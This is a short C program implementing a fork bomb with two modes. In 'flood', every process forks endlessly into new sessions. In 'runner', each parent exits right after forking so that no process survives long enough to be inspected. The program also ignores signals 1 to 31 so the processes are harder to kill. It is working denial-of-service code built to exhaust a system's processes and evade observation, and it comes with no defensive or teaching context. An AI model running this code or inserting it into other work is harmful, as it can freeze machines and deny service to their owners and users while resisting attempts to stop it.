/* Programs that multiply. `flood`: every process forks for ever, each child in a session of its own.
   `runner`: every process forks once and ends, so that none lives long enough to be looked at. */
#include <signal.h>
#include <string.h>
#include <unistd.h>

int main(int count, char **words) {
    int runner = count > 1 && strcmp(words[1], "runner") == 0;
    for (int number = 1; number < 32; number++)
        signal(number, SIG_IGN);
    for (;;) {
        int child = fork();
        if (child == 0)
            setsid();
        else if (child > 0 && runner)
            _exit(0);
    }
}
